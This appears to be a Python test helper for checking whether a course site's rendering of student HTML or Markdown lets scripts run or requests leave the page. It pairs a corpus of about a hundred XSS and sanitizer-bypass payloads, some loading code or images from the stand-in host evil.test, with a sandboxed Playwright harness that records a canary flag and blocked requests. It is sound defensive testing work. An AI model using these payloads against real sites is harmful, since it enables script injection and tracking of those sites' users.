"""Text by which a page could be made to run a script or send a request: the corpus, a picture, a browser to try them.

A script that runs says so by setting `window.canary`; a request goes to the host evil.test.
"""

import base64
import contextlib
import shutil
import struct
import zlib

JS = "window.canary=1"
B64 = base64.b64encode(f"<script>top.{JS}</script>".encode()).decode()
SVG = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="top.{JS}"><script>top.{JS}</script></svg>'.encode()
).decode()

VECTORS = [
    f"<script>{JS}</script>",
    f"<ScRiPt >{JS}</sCrIpT >",
    f"<script/x>{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>import 'http://evil.test/m.js'</script>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<img/src=x/onerror={JS}>",
    f"<img src=x onerror\n=\n{JS}>",
    f'"><img src=x onerror={JS}>',
    f"'><img src=x onerror='{JS}'>",
    f"</title></style></textarea></pre></code><img src=x onerror={JS}>",
    f"--><img src=x onerror={JS}>",
    f"]]><img src=x onerror={JS}>",
    '<img src="http://evil.test/pixel.png">',
    '<img srcset="http://evil.test/set.png 1x" src="http://evil.test/p.png">',
    "![p](http://evil.test/md.png)",
    f"![p](data:image/svg+xml;base64,{SVG})",
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{JS}"><text x=9 y=9>x</text></a></svg>',
    f'<svg><use href="data:image/svg+xml;base64,{SVG}#x"></use></svg>',
    f"<svg><foreignObject><iframe onload={JS}></iframe></foreignObject></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={JS}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={JS}&gt;'>",
    f"<math><mi//xlink:href='data:x,<script>{JS}</script>'>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{JS}'>x</maction></math>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={JS}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f'<a href="javascript:{JS}">x</a>',
    f'<a href="JaVaScRiPt:{JS}">x</a>',
    f'<a href=" &#14; javascript:{JS}">x</a>',
    f'<a href="jav&#x09;ascript:{JS}">x</a>',
    f'<a href="jav&Tab;asc&NewLine;ript&colon;{JS}">x</a>',
    f'<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;{JS}">x</a>',
    f'<a href="data:text/html;base64,{B64}">x</a>',
    f'<a href="vbscript:{JS}">x</a>',
    f"[x](javascript:{JS})",
    f"[x](<java\tscript:{JS}>)",
    f"[x]: javascript:{JS}\n\n[x]",
    f"<javascript:{JS}>",
    f"![x](javascript:{JS})",
    f'[x](http://a.test "t\\" onmouseover={JS} x=\\"")',
    f"![x](attachment:a.png\"onerror={JS})",
    f"<iframe src=javascript:{JS}></iframe>",
    f'<iframe srcdoc="<script>top.{JS}</script>"></iframe>',
    f'<iframe src="data:text/html;base64,{B64}"></iframe>',
    '<iframe src="http://evil.test/frame"></iframe>',
    f"<object data='data:text/html;base64,{B64}'></object>",
    f"<embed src='data:image/svg+xml;base64,{SVG}'>",
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    '<meta http-equiv="refresh" content="0;url=http://evil.test/refresh">',
    '<base href="http://evil.test/">',
    '<link rel=stylesheet href="http://evil.test/a.css">',
    '<link rel=preload as=image href="http://evil.test/preload.png">',
    f'<form action="javascript:{JS}"><input type=submit autofocus></form>',
    f'<form action="http://evil.test/form"><button autofocus onfocus="{JS}">x</button></form>',
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}><summary>s</summary></details>",
    f"<video autoplay onloadstart={JS}><source src=x onerror={JS}></video>",
    f"<audio src=x onerror={JS}></audio>",
    f"<body onload={JS} onpageshow={JS}>",
    f"<marquee onstart={JS}>x</marquee>",
    f"<div style=\"background:url(http://evil.test/bg.png);width:expression({JS})\">x</div>",
    "<style>@import 'http://evil.test/b.css'; body{background:url(http://evil.test/c.png)}</style>",
    f"<style onload={JS}></style>",
    '<td background="http://evil.test/td.png">x</td>',
    "<table><td style='text-align:left;background:url(http://evil.test/e.png)'>x</td></table>",
    f"<template><script>{JS}</script></template><template shadowrootmode=open><img src=x onerror={JS}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={JS}>">',
    f"<noscript><style></noscript><img src=x onerror={JS}>",
    f"<noembed><img title='</noembed><img src=x onerror={JS}>'></noembed>",
    f"<xmp><p title='</xmp><img src=x onerror={JS}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={JS}>'>",
    f"<plaintext><img src=x onerror={JS}>",
    f"<select><style></select><img src=x onerror={JS}></style>",
    f"<p id=submission_id name=base_url><a id=canary name=canary href='javascript:{JS}'>x",
    f"<isindex type=image src=1 onerror={JS}>",
    f"<x onclick={JS} autofocus tabindex=1 onfocus={JS}>x</x>",
    f"<p style='animation-name:x' onanimationstart={JS}>x",
    f"```html\n</code></pre><script>{JS}</script>\n```",
    f"`</code><img src=x onerror={JS}>`",
    f"    </code></pre><img src=x onerror={JS}>",
    f"```mermaid\ngraph TD\nA[\"<img src=x onerror={JS}>\"]\n```",
    f"$</p><img src=x onerror={JS}>$",
    f"$$\\unicode{{<img src=x onerror={JS}>}}$$ \\begin{{x}}<script>{JS}</script>\\end{{x}}",
    f"\\href{{javascript:{JS}}}{{x}} $\\href{{javascript:{JS}}}{{x}}$",
    f"| a |\n|---|\n| <img src=x onerror={JS}> |",
    f"# <img src=x onerror={JS}>\n\n## </h2><script>{JS}</script>",
    f"<!--><img src=x onerror={JS}>-->",
    f"<![CDATA[><img src=x onerror={JS}>]]>",
    f"<?xml-stylesheet href='javascript:{JS}'?><? foo='><script>{JS}</script>'>",
    f"\x1b[31m<img src=x onerror={JS}>\x1b[0m\x1b]8;;javascript:{JS}\x07link\x1b]8;;\x07",
    f"\x1b]0;</title><script>{JS}</script>\x07",
    f"<\x00script>{JS}</\x00script>",
    f"<scri\u200bpt>{JS}</script>\u202e<img src=x onerror={JS}>\u2066",
    f"\uff1cscript\uff1e{JS}\uff1c/script\uff1e \u2039img src=x onerror={JS}\u203a",
    f"<\u0131mg src=x onerror={JS}> <\u017fcript>{JS}</\u017fcript>",
    f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
    f"%3Cscript%3E{JS}%3C/script%3E &lt;script&gt;{JS}&lt;/script&gt; &amp;lt;img src=x onerror={JS}&amp;gt;",
    f"\ud83d<img src=x onerror={JS}>",
    "{{ 7*7 }}{% raw %}{{ cycler.__init__.__globals__ }}",
    f"<div>\n\n</div>\n\n</div></div></main><script>{JS}</script>",
    f"<p>{'<b>' * 300}<img src=x onerror={JS}>",
]  # fmt: skip


def picture(width=2, height=2, extra=b""):
    """The bytes of a small grey PNG; `extra` is put in a text chunk."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = zlib.compress((b"\x00" + b"\x80" * width) * height)
    return (
        b"\x89PNG\r\n\x1a\n" + header + chunk(b"tEXt", b"note\x00" + extra) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"]  # fmt: skip


@contextlib.contextmanager
def browser_page():
    """A page of a real Chromium in which every request is answered here: `visit(page, text)` shows an HTML text."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        yield browser.new_page()
        browser.close()


def visit(page, text, served=None):
    """Show `text` and do what a reader might: follow no link, but open, focus, hover and click everything.

    Parameters
    ----------
    page : playwright's Page
    text : str, HTML
    served : function from a URL to the body that the site itself would serve, or None

    Returns
    -------
    (bool, list of str) : whether a script of the student's ran or led elsewhere, and the requests that left the page
    """
    from playwright.sync_api import Error

    left = []

    def answer(route):
        url = route.request.url
        if url == "http://course.test/page":
            return route.fulfill(body=text.encode("utf-8", "replace"), content_type="text/html; charset=utf-8")
        body = served(url) if served else None
        if body is not None:
            return route.fulfill(body=body, content_type="text/javascript" if ".js" in url else "text/css")
        left.append(url)
        return route.abort()

    page.unroute_all()
    page.route("**/*", answer)
    page.goto("http://course.test/page", wait_until="load")
    try:
        return _explore(page), left
    except Error:  # the page was left
        return True, left


def _explore(page):
    page.evaluate(
        """() => {
            for (const e of document.querySelectorAll('details')) e.open = true;
            for (const e of document.querySelectorAll('main *, #notebook *')) {
                for (const kind of ['mouseover', 'focus', 'toggle']) e.dispatchEvent(new Event(kind));
                if (e.localName === 'a' && /^\\s*(javascript|data|vbscript):/i.test(e.href || '')) e.click();
            }
        }"""
    )
    return page.evaluate("() => new Promise(done => setTimeout(() => done(window.canary === 1), 20))")
